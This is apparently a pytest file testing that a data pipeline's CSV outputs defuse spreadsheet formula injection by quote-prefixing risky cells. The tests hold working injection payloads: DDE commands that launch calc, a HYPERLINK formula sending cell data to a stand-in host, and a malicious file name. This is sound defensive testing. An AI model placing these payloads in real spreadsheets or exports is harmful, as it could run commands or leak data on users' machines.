"""No formula from data in CSVs for people (issue #17, item 1): a cell starting with = + - @ tab or CR is
written with a single quote in front (OWASP), plain numbers are left alone, and our own readers take
the quote off again."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from pipelines.cli import main
from statreturns.engine import ISSUE_COLUMNS, RULE_STATUS_COLUMNS, RunResult
from statreturns.files import (
    FORMULA_TRIGGERS,
    neutralise,
    neutralise_frame,
    read_people_csv,
    unneutralise,
    write_people_csv,
)
from statreturns.validate import write_issue_files

PAYLOADS = {
    "=": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _cells(path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _live(cell: str) -> bool:
    """A cell a spreadsheet would run: starts with a trigger and is not a plain number."""
    return cell[:1] in FORMULA_TRIGGERS and neutralise(pd.Series([cell], dtype=object))[0] != cell


def test_every_trigger_is_quoted_and_plain_numbers_are_not():
    values = pd.Series([*PAYLOADS.values(), "-3", "+44", "-0.5", "1e-3", "+1E5", ".5", "-", "+44 20 7946 0000",
                        "--3", "-3-", "abc", "'quoted", None], dtype=object)
    out = neutralise(values)
    for trigger, payload in PAYLOADS.items():
        assert out[list(values).index(payload)] == "'" + payload, repr(trigger)
    assert list(out[6:12]) == ["-3", "+44", "-0.5", "1e-3", "+1E5", ".5"]  # plainly numbers: as they are
    assert list(out[12:16]) == ["'-", "'+44 20 7946 0000", "'--3", "'-3-"]  # not plainly numbers
    assert out[16] == "abc" and out[17] == "''quoted" and out[18] is None
    assert unneutralise(out).tolist() == values.tolist()  # exactly one quote comes off


def test_non_text_columns_are_untouched():
    frame = pd.DataFrame({"n": [-3, 4], "x": [-1.5, None], "d": pd.to_datetime(["2026-01-01", None]),
                          "c": pd.Categorical(["=1", "ok"])})
    out = neutralise_frame(frame)
    assert out["n"].tolist() == [-3, 4] and out["x"].dtype == "float64" and out["d"].dtype == frame["d"].dtype
    assert out["c"].tolist() == ["'=1", "ok"]


@pytest.mark.parametrize("trigger", list(PAYLOADS))
def test_issues_and_rules_csv_hold_no_live_formula(tmp_path, trigger):
    payload = PAYLOADS[trigger]
    issues = pd.DataFrame([{"return": "cin", "year": 2026, "rule_code": payload, "severity": "error",
                            "table": "ChildIdentifiers", "field": payload, "child_id": payload, "row": 0,
                            "message": payload},
                           {"return": "cin", "year": 2026, "rule_code": "1510", "severity": "error",
                            "table": "ChildIdentifiers", "field": "UPN", "child_id": "-3", "row": 1,
                            "message": "UPN invalid"}], columns=ISSUE_COLUMNS)
    status = pd.DataFrame([{"return": "cin", "year": 2026, "rule_code": payload, "severity": "error",
                            "status": "failed", "reason": payload, "findings": 0}], columns=RULE_STATUS_COLUMNS)
    paths = write_issue_files(RunResult(issues=issues, rule_status=status), tmp_path)
    rows = _cells(paths["issues_csv"])
    assert rows[0] == ISSUE_COLUMNS  # the contract's header is unchanged
    assert rows[1][ISSUE_COLUMNS.index("child_id")] == "'" + payload
    assert rows[1][ISSUE_COLUMNS.index("message")] == "'" + payload
    assert rows[2][ISSUE_COLUMNS.index("child_id")] == "-3"  # a plain number stays a number
    rules = _cells(paths["rules_csv"])
    assert rules[1][RULE_STATUS_COLUMNS.index("reason")] == "'" + payload
    for path in (paths["issues_csv"], paths["rules_csv"]):
        assert not [c for row in _cells(path) for c in row if _live(c)]
    back = read_people_csv(paths["issues_csv"])
    assert back["child_id"].tolist() == [payload, "-3"] and back["rule_code"][0] == payload


def test_quarantine_file_names_and_headers_are_neutralised(tmp_path):
    name = "=cmd|' calc'!A0.csv"
    (tmp_path / name).write_text("Adno,Gender,@SUM(1)\nA1,F,x\nA2,Q,y\n")
    (tmp_path / "sources.yaml").write_text(
        "sources:\n  - {name: school, kind: csv, location: ., pattern: '*.csv', profile: generic-mis}\n")
    assert main(["ingest", "--sources", str(tmp_path / "sources.yaml"), "--run-dir", str(tmp_path / "run")]) == 1
    path = tmp_path / "run" / "outputs" / "quarantine" / "school_quarantine.csv"
    rows = _cells(path)
    assert rows[1][1] == "'" + name
    assert not [c for row in rows for c in row if _live(c)]


def test_a_people_csv_round_trips_through_our_reader(tmp_path):
    frame = pd.DataFrame({"@col": list(PAYLOADS.values()) + ["plain"], "n": range(len(PAYLOADS) + 1)})
    path = write_people_csv(frame, tmp_path / "x.csv")
    assert _cells(path)[0][0] == "'@col"
    assert [row[0] for row in _cells(path)][1:] == ["'" + p for p in PAYLOADS.values()] + ["plain"]  # CR kept
    back = read_people_csv(path)
    assert back.columns.tolist() == ["@col", "n"] and back["@col"].tolist() == frame["@col"].tolist()
